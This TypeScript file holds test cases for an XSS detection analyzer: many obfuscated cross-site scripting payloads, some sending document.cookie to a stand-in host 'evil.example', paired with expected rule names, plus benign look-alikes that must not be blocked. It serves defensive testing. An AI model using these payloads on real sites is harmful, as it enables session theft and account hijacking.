import type { ValueKind } from '../../inspectable.js';

/**
 * One detection case: a value and the rule it must raise (any confidence), or null when it must raise
 * nothing at all. `below` caps the strongest finding: look-alikes that may be flagged weakly but must not
 * block at the balanced threshold on their own.
 */
export interface XssCase {
  readonly input: string;
  readonly kind?: ValueKind;
  readonly expect: string | null;
  readonly below?: number;
}

/** The xss analyzer's cases, shared by its unit test, benchmark and fuzz target. */
export const XSS_CASES: readonly XssCase[] = [
  // Script elements, in every spelling the tokenizer must see through.
  { input: '<script>alert(1)</script>', expect: 'xss/script-tag' },
  { input: '<ScRiPt src=//evil.example/x.js></sCrIpT>', expect: 'xss/script-tag' },
  { input: '<script/src=data:,alert(1)>', expect: 'xss/script-tag' },
  { input: '<svg><script>alert(1)</script></svg>', expect: 'xss/script-tag' },
  { input: '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', expect: 'xss/script-tag' },
  { input: '<scr\0ipt>alert(1)</scr\0ipt>', expect: 'xss/script-tag' },
  { input: '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', expect: 'xss/script-tag' },
  { input: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', expect: 'xss/script-tag' },
  { input: '</title><script>alert(1)</script>', expect: 'xss/script-tag' },
  { input: '%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E', expect: 'xss/script-tag' },
  {
    input: '<script\n>fetch("//evil.example/?c="+document.cookie)</script\n>',
    kind: 'body-value',
    expect: 'xss/script-tag',
  },
  { input: '</script><script>alert(1)</script>', expect: 'xss/script-tag' },
  // Event handlers in tags, with the separators HTML allows.
  { input: '<img src=x onerror=alert(1)>', expect: 'xss/event-handler' },
  { input: '<svg/onload=alert(1)>', expect: 'xss/event-handler' },
  { input: '<body onload=alert(1)>', expect: 'xss/event-handler' },
  { input: '<details open ontoggle=alert(1)>', expect: 'xss/event-handler' },
  { input: '<img src=x onerror\t=\talert(1)>', expect: 'xss/event-handler' },
  { input: '<img/src="x"/onerror="alert(1)">', expect: 'xss/event-handler' },
  { input: '<a onmouseover="alert(document.cookie)">x</a>', expect: 'xss/event-handler' },
  { input: '<x onbeforehellfreezes=alert(1)>', expect: 'xss/event-handler' },
  { input: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', expect: 'xss/event-handler' },
  { input: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', expect: 'xss/event-handler' },
  { input: '<svg><set attributeName="onmouseover" to="alert(1)"/>', expect: 'xss/event-handler' },
  { input: '<input autofocus onfocus=alert(1)>', expect: 'xss/event-handler' },
  { input: '</a onmousemove="alert(1)">', expect: 'xss/event-handler' },
  { input: '<img src=`x`onerror=alert(1)>', expect: 'xss/event-handler' },
  { input: '<style><img src="</style><img src=x onerror=alert(1)//">', expect: 'xss/event-handler' },
  { input: '<!--<img src="--><img src=x onerror=alert(1)//">', expect: 'xss/event-handler' },
  { input: '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>', expect: 'xss/event-handler' },
  { input: '<article xmlns="x:img src=x onerror=alert(1) ">', expect: 'xss/attribute-breakout' },
  // Ways out of an attribute or a raw-text element.
  { input: '" onmouseover="alert(1)', expect: 'xss/attribute-breakout' },
  { input: "' autofocus onfocus=alert(1) x='", expect: 'xss/attribute-breakout' },
  { input: 'x onerror=alert(1)>', expect: 'xss/attribute-breakout' },
  { input: "'><svg onload=confirm(1)>", expect: 'xss/attribute-breakout' },
  { input: '"><img src=x onerror=alert(1)>', expect: 'xss/attribute-breakout' },
  { input: '"/><b>hi</b>', expect: 'xss/attribute-breakout', below: 1 },
  { input: '--><svg onload=alert(1)>', expect: 'xss/attribute-breakout' },
  { input: '</title></textarea></style></script><svg onload=alert(1)>', expect: 'xss/attribute-breakout' },
  {
    input: 'Mozilla/5.0 (compatible; onload=alert(document.domain))',
    kind: 'header-value',
    expect: 'xss/attribute-breakout',
  },
  // Script URLs, bare and in attributes, with the obfuscations URL parsers undo.
  { input: 'javascript:alert(1)', expect: 'xss/script-url' },
  { input: 'JaVaScRiPt:alert(document.domain)', expect: 'xss/script-url' },
  { input: 'java\tscript:alert(1)', expect: 'xss/script-url' },
  { input: 'java%0ascript:alert(1)', expect: 'xss/script-url' },
  { input: 'javascript:void(fetch("//evil.example"))', expect: 'xss/script-url' },
  { input: 'vbscript:msgbox(1)', expect: 'xss/script-url' },
  { input: '<a href="javascript:alert(1)">x</a>', expect: 'xss/script-url' },
  { input: '<a href="jav&#x09;ascript:alert(1)">x</a>', expect: 'xss/script-url' },
  { input: '<a href="&#106;avascript:alert(1)">x</a>', expect: 'xss/script-url' },
  { input: '<a href=" &#14; javascript:alert(1)">x</a>', expect: 'xss/script-url' },
  { input: '<iframe src="javascript&colon;alert(1)"></iframe>', expect: 'xss/script-url' },
  { input: '<form action="javascript:alert(1)"><input type=submit></form>', expect: 'xss/script-url' },
  { input: '<button formaction=javascript:alert(1)>x</button>', expect: 'xss/script-url' },
  {
    input: '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    expect: 'xss/script-url',
  },
  { input: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', expect: 'xss/script-url' },
  { input: '<IMG SRC=`javascript:alert("x")`>', expect: 'xss/script-url' },
  {
    input: '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    expect: 'xss/script-tag',
  },
  { input: 'data:text/html,<script>alert(1)</script>', expect: 'xss/script-tag' },
  { input: 'data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+', expect: 'xss/event-handler' },
  { input: '{"url":"javascript:alert(7)"}', kind: 'body-text', expect: 'xss/script-url' },
  // CSS that runs script.
  { input: '<div style="x:expression(alert(1))">', expect: 'xss/css-injection' },
  { input: '<div style="background:url(javascript:alert(1))">', expect: 'xss/css-injection' },
  { input: '<div style="x:exp/**/ression(alert(1))">', expect: 'xss/css-injection' },
  { input: '<div style="background-image:\\75\\72\\6c(javascript:alert(1))">', expect: 'xss/css-injection' },
  { input: "<style>@import 'javascript:alert(1)';</style>", expect: 'xss/css-injection' },
  { input: '<style>body{-moz-binding:url(//evil.example/x.xml#x)}</style>', expect: 'xss/css-injection' },
  { input: 'color:red;background:url(javascript:alert(1))', expect: 'xss/css-injection' },
  { input: 'width:expression(alert(1))', expect: 'xss/css-injection' },
  // Elements that load or redirect without script of their own: strong, not certain.
  { input: '<iframe src="//evil.example/phish"></iframe>', expect: 'xss/dangerous-tag', below: 1 },
  { input: '<object data="//evil.example/x.swf"></object>', expect: 'xss/dangerous-tag', below: 1 },
  { input: '<embed src="//evil.example/x.swf">', expect: 'xss/dangerous-tag', below: 1 },
  { input: '<base href="//evil.example/">', expect: 'xss/dangerous-tag', below: 1 },
  {
    input: '<meta http-equiv="refresh" content="0;url=//evil.example">',
    expect: 'xss/dangerous-tag',
    below: 1,
  },
  { input: '<link rel="import" href="//evil.example/x.html">', expect: 'xss/dangerous-tag', below: 1 },
  { input: '<meta charset="UTF-7">', expect: 'xss/dangerous-tag', below: 1 },
  { input: '<applet code="Evil.class"></applet>', expect: 'xss/dangerous-tag', below: 1 },
  {
    input: '<meta http-equiv="Set-Cookie" content="session=attacker">',
    expect: 'xss/dangerous-tag',
    below: 1,
  },
  { input: '<?import namespace="t" implementation="#default#time2">', expect: 'xss/dangerous-tag', below: 1 },
  // JavaScript contexts: ways out of strings and numbers into sink calls.
  { input: "';alert(1)//", expect: 'xss/js-sink' },
  { input: '";alert(document.cookie);//', expect: 'xss/js-sink' },
  { input: '"-alert(1)-"', expect: 'xss/js-sink' },
  { input: "\\';alert(1)//", expect: 'xss/js-sink' },
  { input: "');fetch('//evil.example/?'+document.cookie);//", expect: 'xss/js-sink' },
  { input: '1;alert(1)', expect: 'xss/js-sink' },
  { input: "x\";setTimeout('alert(1)',0);//", expect: 'xss/js-sink' },
  { input: "';location='//evil.example';//", expect: 'xss/js-sink' },
  { input: "';document.location='//evil.example/?'+document.cookie;//", expect: 'xss/js-sink' },
  { input: "eval(atob('YWxlcnQoMSk='))", expect: 'xss/js-sink' },
  { input: "[].constructor.constructor('alert(1)')()", expect: 'xss/js-sink' },
  { input: 'alert`1`', expect: 'xss/js-sink', below: 1 },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload spells template syntax literally
  { input: '[].sort.call`${alert}1`', expect: 'xss/js-sink' },
  { input: "window['al'+'ert'](1)", expect: 'xss/js-obfuscation' },
  { input: 'self[/*x*/"alert"](document.domain)', expect: 'xss/js-obfuscation' },
  { input: 'top["\\x61lert"](1)', expect: 'xss/js-obfuscation' },
  { input: '\\u0061lert(1)', expect: 'xss/js-obfuscation' },
  { input: 'document /*x*/ . cookie', expect: 'xss/js-obfuscation', below: 1 },
  {
    input: '(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]',
    expect: 'xss/js-obfuscation',
  },
  // Lone probes: strong, but a search for `alert(1)` should not be blocked on this alone.
  { input: 'alert(1)', expect: 'xss/js-sink', below: 1 },
  { input: 'document.cookie', expect: 'xss/js-sink', below: 0.6 },
  { input: 'window.location', kind: 'body-value', expect: 'xss/js-sink', below: 0.6 },
  // Client-side template gadgets.
  { input: "{{constructor.constructor('alert(1)')()}}", expect: 'xss/template-gadget' },
  { input: "{{$on.constructor('alert(1)')()}}", expect: 'xss/template-gadget' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload spells template syntax literally
  { input: '${alert(document.domain)}', expect: 'xss/template-gadget' },
  {
    input: "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)');}}",
    expect: 'xss/template-gadget',
  },

  // Payloads from other cheat sheets: same rules, other spellings.
  {
    input:
      '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>X</text></a>',
    expect: 'xss/script-url',
  },
  { input: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', expect: 'xss/event-handler' },
  { input: 'javascript://%0aalert(1)', expect: 'xss/script-url' },
  {
    input:
      'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
    expect: 'xss/event-handler',
  },
  {
    input: '<div ng-app ng-csp><div ng-focus="x=$event.view.window;x.alert(1)" tabindex=0>',
    expect: 'xss/template-gadget',
  },
  { input: '<div x-data x-init="alert(1)">', expect: 'xss/template-gadget' },
  { input: 'top[8680439..toString(30)](1)', expect: 'xss/js-obfuscation', below: 1 },
  { input: "eval('ale'+'rt(1)')", expect: 'xss/js-sink' },
  { input: "setTimeout('alert(1)')", expect: 'xss/js-sink' },
  { input: 'window.onerror=alert;throw 1', expect: 'xss/js-sink' },
  { input: '"autofocus/onfocus=alert(1)//', expect: 'xss/attribute-breakout' },
  { input: 'alert?.(1)', expect: 'xss/js-sink', below: 1 },
  {
    input: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    expect: 'xss/script-tag',
  },
  // Ordinary values: words, ids, numbers, dates, tokens, prose.
  { input: 'hello world', expect: null },
  { input: "John O'Brien", expect: null },
  { input: '1-2 years', expect: null },
  { input: 'The union of workers', expect: null },
  { input: 'select a product', expect: null },
  { input: 'user@example.com', expect: null },
  { input: '550e8400-e29b-41d4-a716-446655440000', expect: null },
  { input: '2024-01-15T10:30:00Z', expect: null },
  { input: '+1 (555) 123-4567', expect: null },
  { input: 'Call (555) 123-4567 or e-mail us', expect: null },
  { input: 'dGhpcyBpcyBhIHRlc3Q=', expect: null },
  {
    input:
      'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
    kind: 'header-value',
    expect: null,
  },
  { input: 'VGhhbmtzLCBmb3IgYWxsIHlvdXIgd29yayBzaW5jZSB5ZWFycyBvbiBDUlMuIEh1bQo/onafe=', expect: null },
  { input: '1a2b3c4d5e6f7g8h9i0j1k2l3m4n5onabcde=6p7q8r9s0t', kind: 'header-value', expect: null },
  { input: 'C:\\Users\\me\\Documents\\x.txt', expect: null },
  { input: '../images/logo.png', expect: null },
  { input: '{"a":1,"b":[1,2],"c":{"d":"e"}}', kind: 'body-text', expect: null },
  {
    input:
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
    kind: 'header-value',
    expect: null,
  },
  {
    input: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
    kind: 'header-value',
    expect: null,
  },
  // Angle brackets that are not markup.
  { input: '<3', expect: null },
  { input: 'I <3 you', expect: null },
  { input: 'a < b > c', expect: null },
  { input: 'x<y', expect: null },
  { input: '2<x<5', expect: null },
  { input: 'if (a < b && c > d) return a;', expect: null },
  { input: 'List<String> items = new ArrayList<>();', expect: null },
  { input: 'John Smith <john.smith@example.com>', expect: null },
  { input: 'a => b, x -> y, <- back, <= 5', expect: null },
  { input: '5" > 3"', expect: null },
  { input: '"quoted" text > more', expect: null },
  // Words that start like handlers or schemes.
  { input: 'online=yes', expect: null },
  { input: 'only=true', expect: null },
  { input: 'onsale=1&ongoing=2', expect: null },
  { input: 'Turn the lights on=off', expect: null },
  { input: 'javascript: the good parts', expect: null },
  { input: 'JavaScript: The Definitive Guide', expect: null },
  { input: '/wiki/JavaScript:_The_Good_Parts', kind: 'path', expect: null },
  { input: '/get/javascript-manual/document.cookie', kind: 'path', expect: null },
  { input: 'https://example.com/javascript/tutorial?lang=en', expect: null },
  { input: 'https://example.com/search?q=javascript&sort=new', kind: 'header-value', expect: null },
  { input: 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==', expect: null },
  { input: 'Please confirm (by email) your booking', expect: null },
  { input: 'I need to import (and export) goods', expect: null },
  { input: 'Set an alert for 5pm', expect: null },
  { input: 'setTimeout is a function', expect: null },
  { input: 'style=color:red;background:white', expect: null },
  { input: 'style=background:url(http://example.com/x)', expect: null },
  { input: 'font-family: Arial, sans-serif; color: #333', expect: null },
  { input: 'jambrina.hamissi@importardeespaña.sz', expect: null },
  // Formatting markup in rich-text fields: no script capability, no finding.
  { input: '<b>bold</b> and <i>italic</i>', kind: 'body-value', expect: null },
  {
    input: '<p>Hello <a href="https://example.com" target="_blank" rel="noopener">world</a></p>',
    kind: 'body-value',
    expect: null,
  },
  {
    input: '<img src="https://cdn.example.com/a.png" alt="a photo" width="300">',
    kind: 'body-value',
    expect: null,
  },
  { input: '<ul><li>one</li><li>two</li></ul><hr><br/>', kind: 'body-value', expect: null },
  { input: '<span style="color: #ff0000; font-weight: bold">red</span>', kind: 'body-value', expect: null },
  { input: '<table><tr><td style="padding:4px">1</td></tr></table>', kind: 'body-value', expect: null },
  {
    input: '<a href="mailto:me@example.com">mail</a> <a href="#top">top</a>',
    kind: 'body-value',
    expect: null,
  },
  { input: '<img src="data:image/png;base64,iVBORw0KGgo=">', kind: 'body-value', expect: null },
  {
    input: '<h1>Title</h1><p class="lead">text</p><blockquote>quote</blockquote><!-- more -->',
    kind: 'body-value',
    expect: null,
  },
  {
    input: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><path d="M0 0L10 10"/></svg>',
    kind: 'body-value',
    expect: null,
  },
  {
    input: '<?xml version="1.0" encoding="UTF-8"?><order><id>1</id></order>',
    kind: 'body-text',
    expect: null,
  },
  { input: '<?xml-stylesheet type="text/xsl" href="style.xsl"?>', expect: null },
  {
    input: 'There\'s a video: <a href="https://www.youtube.com/watch?v=x">here</a>',
    kind: 'body-value',
    expect: null,
  },
  // Markdown and templates.
  {
    input: '**bold** and _italic_ [link](https://example.com) ![img](a.png)',
    kind: 'body-value',
    expect: null,
  },
  {
    input: 'Use `document.querySelector` to find nodes and `alert` to warn',
    kind: 'body-value',
    expect: null,
  },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload spells template syntax literally
  { input: 'Hello {{ user.name }}, your order #{{order.id}} of ${total}', expect: null },
  { input: '{{7*7}}', expect: null },
  // Realistic rich content and code samples.
  {
    input:
      '<!-- wp:paragraph --><p>Welcome to <strong>our blog</strong>! See the <a href="https://example.com/docs?x=1&amp;y=2" title="Docs">docs</a>.</p><!-- /wp:paragraph --><figure><img src="https://example.com/a.jpg" alt="" srcset="a-300.jpg 300w, a-1024.jpg 1024w" sizes="(max-width: 1024px) 100vw, 1024px"/></figure><p style="text-align:center">Bye &lt;3</p>',
    kind: 'body-value',
    expect: null,
  },
  {
    input: '<div v-if="show" :class="{active: isActive}" @click="toggle">{{ message | capitalize }}</div>',
    kind: 'body-value',
    expect: null,
  },
  {
    input: '<li *ngFor="let item of items" (click)="select(item)">{{item.name}}</li>',
    kind: 'body-value',
    expect: null,
  },
  {
    input: '{{#if user}}Hello {{user.name}}{{else}}<a href="/login">Log in</a>{{/if}}',
    kind: 'body-value',
    expect: null,
  },
  {
    input:
      ".header { background: url('/img/bg.png') no-repeat; } @media (max-width: 600px) { .nav { display:none } }",
    kind: 'body-value',
    expect: null,
  },
  {
    input: 'Temperatures <10°C and >30°C are rare; press <Ctrl>+<C> to copy.',
    kind: 'body-value',
    expect: null,
  },
  {
    input:
      '<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><m:GetPrice xmlns:m="https://example.com/prices"><m:Item>Apples</m:Item></m:GetPrice></soapenv:Body></soapenv:Envelope>',
    kind: 'body-text',
    expect: null,
  },
  {
    input:
      '<svg width="24" height="24"><circle cx="12" cy="12" r="10" fill="url(#g)"/><a href="https://example.com"><text>hi</text></a></svg>',
    kind: 'body-value',
    expect: null,
  },
  { input: "$(document).ready(function(){ $('#x').html('<b>hi</b>'); });", kind: 'body-value', expect: null },
  { input: "img.onerror = function () { this.src = 'fallback.png'; };", kind: 'body-value', expect: null },
  {
    input:
      'export const App = () => <div className="app" style={{color: \'red\'}}><Header title="x" /></div>;',
    kind: 'body-value',
    expect: null,
  },
  { input: '<?php echo htmlspecialchars($name); ?>', kind: 'body-value', expect: null },
  {
    input:
      '> **Note**\n> Use <kbd>Ctrl</kbd> + <kbd>K</kbd>. <details><summary>More</summary>Hidden</details>',
    kind: 'body-value',
    expect: null,
  },
  { input: 'Email-alert(s)', expect: null },
  { input: 'how to use setTimeout() with promises', expect: null },
  { input: 'javascript: how to reverse a string', expect: null },
  { input: 'onclick vs addEventListener', expect: null },
  { input: 'https://cdn.example.com/js/app.min.js?v=3#onload=init', kind: 'header-value', expect: null },
  { input: '<option value="1">One</option><option value="2">Two</option>', kind: 'body-value', expect: null },
  { input: '{"theme":"dark","lastSearch":"<b>shoes</b>"}', kind: 'cookie-value', expect: null },
  {
    input: '<button @click="count++">+</button><div ng-click="vm.save()">',
    kind: 'body-value',
    expect: null,
  },
  // Rich content that may be flagged, but never blocked on its own.
  {
    input: "setTimeout(function(){ alert('hi') }, 1000);",
    kind: 'body-value',
    expect: 'xss/js-sink',
    below: 1,
  },
  {
    input: '<iframe width="560" height="315" src="https://www.youtube.com/embed/x" allowfullscreen></iframe>',
    kind: 'body-value',
    expect: 'xss/dangerous-tag',
    below: 1,
  },
  {
    input: '<style>.intro{color:red}</style><p class="intro">hi</p>',
    kind: 'body-value',
    expect: 'xss/dangerous-tag',
    below: 1,
  },
  { input: 'Use <script> tags to load JavaScript', expect: 'xss/script-tag', below: 1 },
  {
    input: "document.getElementById('demo').innerHTML = 'Hello';",
    kind: 'body-value',
    expect: 'xss/js-sink',
    below: 1,
  },
  { input: 'console.log(document.cookie)', kind: 'body-value', expect: 'xss/js-sink', below: 1 },
  { input: 'We use eval() sparingly', kind: 'body-value', expect: 'xss/js-sink', below: 0.6 },
  {
    input: "@import url('https://fonts.googleapis.com/css?family=Roboto');",
    kind: 'body-value',
    expect: 'xss/css-injection',
    below: 0.6,
  },
  {
    input: '<img src="data:image/svg+xml;base64,PHN2Zz48cGF0aCBkPSJNMCAwIi8+PC9zdmc+">',
    kind: 'body-value',
    expect: 'xss/script-url',
    below: 0.6,
  },
  {
    input: 'Use `onClick={handle}` in React.',
    kind: 'body-value',
    expect: 'xss/attribute-breakout',
    below: 0.7,
  },
  {
    input: '<button onClick={() => setCount(count + 1)}>Clicked {count} times</button>',
    kind: 'body-value',
    expect: 'xss/event-handler',
    below: 1,
  },
  {
    input: "if (a < b) { return a; } else { window.location.href = '/home'; }",
    kind: 'body-value',
    expect: 'xss/js-sink',
    below: 1,
  },
  {
    input: "with open('file.txt') as f:\n    data = eval(f.read())",
    kind: 'body-value',
    expect: null,
  },
  {
    input:
      '<p>Watch:</p><iframe src="https://player.vimeo.com/video/123" width="640" allowfullscreen></iframe>',
    kind: 'body-value',
    expect: 'xss/dangerous-tag',
    below: 1,
  },
  {
    input:
      '<html><head><meta charset="utf-8"><style>body{font-family:Arial}</style></head><body><table width="100%"><tr><td><a href="https://shop.example.com/confirm?token=abc">Confirm</a></td></tr></table></body></html>',
    kind: 'body-value',
    expect: 'xss/dangerous-tag',
    below: 1,
  },
  {
    input:
      "data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><rect fill='%23ccc' width='4' height='4'/></svg>",
    expect: 'xss/script-url',
    below: 0.7,
  },
];
